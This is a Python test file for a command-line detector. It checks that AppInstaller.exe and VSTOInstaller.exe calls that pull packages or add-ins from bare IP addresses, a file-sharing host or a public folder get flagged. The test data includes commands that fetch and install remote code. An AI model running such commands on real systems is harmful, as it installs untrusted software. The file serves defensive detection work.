"""AppInstaller and VSTOInstaller: packages and add-ins from the web, by their address."""

from __future__ import annotations

import pytest

from tests.core.lines import ids, judged_windows


@pytest.mark.parametrize(
    ("line", "indicators"),
    [
        (
            "AppInstaller.exe ms-appinstaller:?source=http://203.0.113.9/Meet.appinstaller",
            ["application_from_nobody", "input_bare_address"],
        ),
        (
            'AppInstaller.exe "ms-appinstaller://?source=https://files.catbox.moe/a.msix&activationUri=x:"',
            ["application_from_nobody"],
        ),
        ("AppInstaller.exe ms-appinstaller:?source=https://apps.contoso.example/Tool.appinstaller", []),
        ("AppInstaller.exe -ServerName:App.AppX", []),
        ("AppInstaller.exe", []),
    ],
)
def test_where_a_package_comes_from(line: str, indicators: list[str]) -> None:
    report = judged_windows(line)
    assert ids(report) == indicators
    assert report.tool == "appinstaller" * bool(indicators)


@pytest.mark.parametrize(
    ("line", "indicators"),
    [
        ("VSTOInstaller.exe /s /i http://203.0.113.9/a.vsto", ["application_from_nobody", "input_bare_address"]),
        ("VSTOInstaller.exe /install C:\\Users\\Public\\a.vsto", ["application_from_nobody"]),
        ("VSTOInstaller.exe /i https://addins.contoso.example/a.vsto", []),
        ("VSTOInstaller.exe /u http://203.0.113.9/a.vsto", []),
        ("VSTOInstaller.exe", []),
    ],
)
def test_where_an_add_in_comes_from(line: str, indicators: list[str]) -> None:
    report = judged_windows(line)
    assert ids(report) == indicators
    assert report.tool == "vstoinstaller" * bool(indicators)
